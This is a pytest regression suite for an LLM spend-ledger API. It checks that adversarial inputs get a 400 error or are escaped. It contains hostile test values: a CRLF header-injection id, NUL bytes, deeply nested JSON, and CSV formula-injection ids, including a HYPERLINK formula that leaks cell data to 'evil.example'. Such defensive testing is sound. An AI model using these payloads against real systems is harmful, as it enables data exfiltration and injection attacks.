"""Issue 15: what an adversarial probe sent the management and reporting API (on 8e40733), now
refused with the OpenAI error envelope — a 400 naming the field, never a 500 — leaving the event
log as it was. One test per finding; the database-down and embedded-PostgreSQL findings start
servers of their own (test_database_down.py, test_embedded_database_pids.py).
"""

from __future__ import annotations

import csv
import io
import os
import secrets
import socket
import subprocess
import sys
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import pytest

from spendledger.ledger.identifiers import ID_RULE
from spendledger.ledger.tokens import PART_FIELDS
from spendledger.projections.export_files import csv_bytes, parquet_table
from spendledger.projections.reconciliation import TOTAL_COLUMNS, ReconciliationReport
from tests.e2e.test_bad_input import assert_envelope, event_count
from tests.support import PROJECT_ROOT, PostgresForTests, RunningServer, run_server

MASTER_KEY = "sk-adversarial-0b9f3c51d2e84a7690c1f5e3d7a2b468"
AUTH = {"Authorization": f"Bearer {MASTER_KEY}"}
JSON_AUTH = {**AUTH, "content-type": "application/json"}
CONFIG = f"""
model_list:
  - model_name: mock-model
    litellm_params:
      model: mock/demo
    model_info:
      input_cost_per_token: 0.000001
      output_cost_per_token: 0.000003
general_settings:
  master_key: {MASTER_KEY}
"""


@pytest.fixture(scope="module")
def server(postgres: PostgresForTests) -> Iterator[RunningServer]:
    """Two workers: the HTTP protocol class must load in every worker process (finding 3)."""
    url = postgres.new_database()
    with run_server(CONFIG, url, workers=2) as running:
        yield running
    postgres.drop_database(url)


@pytest.fixture
def unchanged_ledger(server: RunningServer) -> Iterator[None]:
    before = event_count(server.database_url)
    yield
    assert event_count(server.database_url) == before, "a refused request wrote to the event log"
    assert "unhandled_error" not in server.log(), server.log()[-4000:]


# --- finding 1: ids, nesting, UTF-8 and dates on the management API --------------------------------

# Random hex does not compress: PostgreSQL had to index all of it ("index row requires 9016 bytes").
LONG_ID = secrets.token_hex(1750)
LONG_TEXT = "x" * 2000


def _nested_object(depth: int) -> bytes:
    return b'{"a": ' * depth + b"1" + b"}" * depth


# (method, path, what to send, the param the error must name, whether it is the id rule's error)
BAD_MANAGEMENT_INPUT: list[tuple[str, str, dict[str, Any], str | None, bool]] = [
    # JSON nested ~1,000 deep (msgspec's RecursionError), and deeper than any request needs (100)
    ("POST", "/key/generate", {"content": b'{"metadata": ' + _nested_object(1000) + b"}"}, None, False),
    ("POST", "/team/new", {"content": b'{"metadata": ' + _nested_object(1000) + b"}"}, None, False),
    ("POST", "/user/new", {"content": b'{"metadata": ' + _nested_object(100) + b"}"}, None, False),
    ("POST", "/customer/new", {"content": b"[" * 100_000 + b"]" * 100_000}, None, False),
    # bodies that are not UTF-8
    ("POST", "/customer/new", {"content": b'{"user_id": "\xff\xfe"}'}, None, False),
    ("POST", "/budget/info", {"content": b'{"budgets": ["\xc3\x28"]}'}, None, False),
    ("POST", "/team/new", {"content": b'{"team_alias": "\xed\xa0\x80"}'}, None, False),
    # ids over 256 characters, in bodies and in query strings
    ("POST", "/customer/new", {"json": {"user_id": LONG_ID}}, "user_id", True),
    ("POST", "/customer/new", {"json": {"user_id": "c", "budget_id": LONG_ID}}, "budget_id", True),
    ("POST", "/budget/new", {"json": {"budget_id": LONG_ID}}, "budget_id", True),
    ("POST", "/team/new", {"json": {"team_id": LONG_ID}}, "team_id", True),
    ("POST", "/user/new", {"json": {"user_id": LONG_ID}}, "user_id", True),
    ("POST", "/user/new", {"json": {"key_alias": LONG_ID}}, "key_alias", True),
    ("POST", "/key/generate", {"json": {"key_alias": LONG_ID}}, "key_alias", True),
    ("POST", "/key/generate", {"json": {"user_id": LONG_ID}}, "user_id", True),
    ("POST", "/key/generate", {"json": {"team_id": LONG_ID}}, "team_id", True),
    ("POST", "/key/delete", {"json": {"key_aliases": [LONG_ID]}}, "key_aliases[0]", True),
    ("POST", "/team/delete", {"json": {"team_ids": ["t", LONG_ID]}}, "team_ids[1]", True),
    ("GET", "/customer/info", {"params": {"end_user_id": LONG_ID}}, "end_user_id", True),
    ("GET", "/team/info", {"params": {"team_id": LONG_ID}}, "team_id", True),
    ("GET", "/user/info", {"params": {"user_id": LONG_ID}}, "user_id", True),
    ("GET", "/key/list", {"params": {"key_alias": LONG_ID}}, "key_alias", True),
    ("GET", "/spend/logs", {"params": {"user_id": LONG_ID}}, "user_id", True),
    # empty, blank and control-character ids
    ("POST", "/customer/delete", {"json": {"user_ids": [""]}}, "user_ids[0]", True),
    ("POST", "/end_user/block", {"json": {"user_ids": [""]}}, "user_ids[0]", True),
    ("POST", "/customer/new", {"json": {"user_id": "   "}}, "user_id", True),
    ("POST", "/budget/new", {"json": {"budget_id": "tier\r\nx-injected: 1"}}, "budget_id", True),
    ("GET", "/customer/info", {"params": {"end_user_id": "nul\x00"}}, "end_user_id", True),
    # free text is bounded too
    ("POST", "/team/new", {"json": {"team_alias": LONG_TEXT}}, "team_alias", False),
    ("POST", "/user/new", {"json": {"user_email": LONG_TEXT}}, "user_email", False),
    # days that are no days, named by their own query names
    ("GET", "/export/reconciliation", {"params": {"from": "null"}}, "from", False),
    ("GET", "/export/reconciliation", {"params": {"to": "10000-01-01"}}, "to", False),
    ("GET", "/export/reconciliation", {"params": {"from": "0000-12-31", "format": "csv"}}, "from", False),
    ("GET", "/spend/logs", {"params": {"end_date": "9999-12-32"}}, "end_date", False),
]


@pytest.mark.usefixtures("unchanged_ledger")
@pytest.mark.parametrize(
    ("method", "path", "send", "param", "id_rule"),
    BAD_MANAGEMENT_INPUT,
    ids=[f"{m} {p} #{i}" for i, (m, p, *_) in enumerate(BAD_MANAGEMENT_INPUT)],
)
def test_bad_management_input_is_a_400_naming_the_field(
    server: RunningServer, method: str, path: str, send: dict[str, Any], param: str | None, id_rule: bool
) -> None:
    response = httpx.request(method, f"{server.base_url}{path}", headers=JSON_AUTH, timeout=30, **send)
    error = assert_envelope(response, 400, "invalid_request_error")
    if param is not None:
        assert error["param"] == param, error
    if id_rule:
        assert ID_RULE in error["message"] and "regex" not in error["message"], error
    assert LONG_ID not in error["message"], "the error repeats a 3,500-character id"


@pytest.mark.usefixtures("unchanged_ledger")
@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/spend/logs", {"start_date": "0001-01-01", "end_date": "9999-12-31"}),
        ("/spend/logs", {"end_date": "9999-12-31", "user_id": "nobody"}),
        ("/global/spend/report", {"start_date": "0001-01-01", "end_date": "9999-12-31"}),
        ("/export/reconciliation", {"from": "0001-01-01", "to": "9999-12-31"}),
        ("/export/reconciliation", {"from": "9999-12-31", "format": "csv"}),
        ("/spend/daily", {"scope": "team", "start_date": "0001-01-01", "end_date": "9999-12-31"}),
    ],
)
def test_every_day_there_is_can_bound_a_report(
    server: RunningServer, path: str, params: dict[str, str]
) -> None:
    """The first and last days a client can name are days: reports over them answer (9999-12-31
    overflowed into the year 10000: a 500)."""
    response = httpx.get(f"{server.base_url}{path}", headers=AUTH, params=params)
    assert response.status_code == 200, response.text


# --- issue 16: durations the database could not read ----------------------------------------------

# Refused by ledger/durations.py, and by sl_duration_parts alike (tests/integration/sql/
# test_periods.py): zero (a period of no length: every admission divided by it), beyond 1000 years,
# more digits than Python's int() reads (a ValueError: a 500), Unicode digits and white space
# (accepted by Python and stored, then refused by SQL at every admission of the key).
BAD_DURATIONS = {
    "zero": "0s",
    "zero months": "000mo",
    "1000 years and a day": "366001d",
    "20 digits": "99999999999999999999d",
    "5000 digits": "9" * 5000 + "d",
    "an Arabic-Indic digit": "\u0667d",
    "a no-break space": "7\u00a0d",
    "a control character": "7d\x1c",
}
DURATION_ROUTES = [
    ("/key/generate", "budget_duration", {}),
    ("/key/generate", "duration", {}),
    ("/team/new", "budget_duration", {}),
    ("/user/new", "budget_duration", {}),
    ("/user/new", "duration", {}),
    ("/customer/new", "budget_duration", {"user_id": "duration-probe", "max_budget": 1}),
    ("/budget/new", "budget_duration", {"budget_id": "duration-probe"}),
]


@pytest.mark.usefixtures("unchanged_ledger")
@pytest.mark.parametrize("duration", BAD_DURATIONS.values(), ids=BAD_DURATIONS.keys())
@pytest.mark.parametrize(
    ("path", "field", "body"), DURATION_ROUTES, ids=[f"{p} {f}" for p, f, _ in DURATION_ROUTES]
)
def test_a_refused_duration_is_a_400_naming_the_field(
    server: RunningServer, path: str, field: str, body: dict[str, Any], duration: str
) -> None:
    response = httpx.post(
        f"{server.base_url}{path}", headers=JSON_AUTH, json={**body, field: duration}, timeout=30
    )
    error = assert_envelope(response, 400, "invalid_request_error")
    assert error["param"] == field, error
    assert "invalid duration" in error["message"] and len(error["message"]) < 300, error


# --- finding 3: a request uvicorn cannot parse -------------------------------------------------------


def _raw_exchange(server: RunningServer, request: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as sock:
        sock.sendall(request)
        chunks = []
        while chunk := sock.recv(65536):  # the server closes the connection after its 400
            chunks.append(chunk)
    return b"".join(chunks)


@pytest.mark.parametrize(
    "request_bytes",
    [
        b"GET /health/liveliness?" + b"a" * 1_000_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /customer/info?end_user_id=\xff HTTP/1.1\r\nHost: x\r\n\r\n",
        b"NOT-HTTP\r\n\r\n",
    ],
    ids=["1MB-request-line", "raw-byte-in-url", "not-http"],
)
def test_an_unparsable_request_gets_the_json_envelope(server: RunningServer, request_bytes: bytes) -> None:
    answer = _raw_exchange(server, request_bytes)
    head, _, body = answer.partition(b"\r\n\r\n")
    status_line, *header_lines = head.decode("latin-1").split("\r\n")
    headers = dict(line.lower().split(": ", 1) for line in header_lines)
    assert status_line.startswith("HTTP/1.1 400"), answer[:300]
    response = httpx.Response(400, headers=headers, content=body)
    assert_envelope(response, 400, "invalid_request_error", "invalid_request")


# --- finding 5: formula injection in the CSV export --------------------------------------------------

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1-2", "-3+4", "@SUM(A1:A9)"]


def _csv_cells(content: bytes) -> dict[str, list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode())))
    return {row[0]: row for row in rows[1:]}


def test_csv_export_escapes_cells_that_start_like_a_formula(server: RunningServer, tmp_path: Path) -> None:
    for customer in [*HOSTILE_IDS, "plain-customer"]:
        body = {
            "model": "mock-model",
            "user": customer,
            "messages": [{"role": "user", "content": "hi there"}],
        }
        response = httpx.post(f"{server.base_url}/chat/completions", headers=AUTH, json=body)
        assert response.status_code == 200, response.text

    # Over HTTP and through `spendledger export`: one writer, the same cells.
    over_http = httpx.get(f"{server.base_url}/export/reconciliation", headers=AUTH, params={"format": "csv"})
    assert over_http.status_code == 200, over_http.text
    config = tmp_path / "config.yaml"
    config.write_text(CONFIG)
    cli = subprocess.run(
        [sys.executable, "-m", "spendledger.api", "export", "--config", str(config), "--format", "csv"],
        cwd=PROJECT_ROOT,
        env={**os.environ, "DATABASE_URL": server.database_url},
        capture_output=True,
        check=False,
    )
    for content in (over_http.content, cli.stdout if cli.returncode == 0 else None):
        if content is None:
            pytest.fail(f"spendledger export failed: {cli.stderr.decode()[-2000:]}")
        cells = _csv_cells(content)
        for customer in HOSTILE_IDS:
            assert "'" + customer in cells, (customer, list(cells))
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells["'" + customer])
        assert cells["plain-customer"][2] == "1"  # a plain id as it is; counts as numbers

    # Numbers stay numbers, a negative one included; Parquet keeps the ids as they are.
    report = ReconciliationReport(
        by="customer",
        period="day",
        start=None,
        end=None,
        rows=[{"customer_id": "-x", "period": "2026-01-01", **_totals(Decimal("-1.50"))}],
        summary=_totals(Decimal("-1.50")),
    )
    row = _csv_cells(csv_bytes(report))["'-x"]
    assert row[2 + TOTAL_COLUMNS.index("spend")] == "-1.50" and row[2] == "-2", row
    assert parquet_table(report).column("customer_id").to_pylist() == ["-x"]


def _totals(spend: Decimal) -> dict[str, Any]:
    return {
        "requests": -2,
        "input_tokens": 0,
        "output_tokens": 0,
        **dict.fromkeys(PART_FIELDS, 0),
        "spend": spend,
        "delivered": 0,
        "pending": 0,
        "dead_lettered": 0,
        "unbillable": 0,
        "not_sent": 0,
        "rejected_by_lago": 0,
    }


# --- the OpenAPI fuzz run's findings (test_openapi_fuzz.py) -----------------------------------------


@pytest.mark.parametrize(
    ("path", "body", "prompt_tokens"),
    [
        ("/v1/completions", {"model": "mock-model", "prompt": [-5607041808752079872, -5607041808752079872]}, 2),
        ("/completions", {"model": "mock-model", "prompt": ["two words", 17, [1, 2, 3]]}, 6),
        ("/embeddings", {"model": "mock-model", "input": [5, None, True, {"a": 1}]}, 4),
        ("/embeddings", {"model": "mock-model", "input": 7}, 1),
    ],
    ids=["token-ids", "mixed-prompt-list", "odd-embedding-inputs", "embedding-input-int"],
)
def test_the_mock_provider_counts_prompts_of_token_ids(
    server: RunningServer, path: str, body: dict[str, Any], prompt_tokens: int
) -> None:
    """Fuzz finding 1: a prompt (or embedding input) of token ids, which OpenAI accepts, made the
    built-in mock provider raise TypeError counting its tokens (`len()` of an int): a 500."""
    response = httpx.post(f"{server.base_url}{path}", headers=AUTH, json=body, timeout=30)
    assert response.status_code == 200, response.text
    assert response.json()["usage"]["prompt_tokens"] == prompt_tokens
    assert "unhandled_error" not in server.log(), server.log()[-4000:]
